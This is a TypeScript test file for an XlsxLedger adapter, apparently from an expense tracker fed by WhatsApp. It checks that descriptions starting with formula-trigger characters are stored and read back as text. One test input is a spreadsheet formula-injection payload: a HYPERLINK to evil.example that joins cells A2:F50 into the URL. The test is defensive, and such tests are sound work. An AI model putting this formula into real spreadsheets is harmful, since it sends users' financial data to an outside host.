import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { XlsxLedger } from '../../src/adapters/local/xlsx-ledger.js';

let dir: string;
beforeEach(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'fluxo-xlsx-'));
});
afterEach(() => rm(dir, { recursive: true, force: true }));

describe('XlsxLedger', () => {
  it.each(['=HYPERLINK("https://evil.example/?d="&TEXTJOIN(",",TRUE,A2:F50),"ver")', '+5511 mercado', '-10 desconto', '@SUM(D2:D9)', '\tpipoca', '\r=1+1'])(
    'writes a description starting with %j as a text cell, never a formula, and reads it back as typed',
    async (description) => {
      const file = path.join(dir, 'ledger.xlsx');
      const ledger = new XlsxLedger(file);
      const sender = 'whatsapp:+5511999990001';
      await ledger.add({ date: '2026-11-20', category: 'Outros', description, amount: 1, notes: 'WhatsApp x1', sender });
      await ledger.update(sender, 'WhatsApp x1', { amount: 2 });
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.readFile(file);
      const cell = workbook.getWorksheet('Gastos')!.getRow(2).getCell(3);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      // XML keeps a CR as a line feed (end-of-line normalization); the cell is still text.
      const typed = description.replace(/\r/g, '\n');
      expect(cell.value).toBe(typed);
      expect((await ledger.list({ sender })).map((row) => [row.description, row.amount])).toEqual([[typed, 2]]);
    },
  );
});
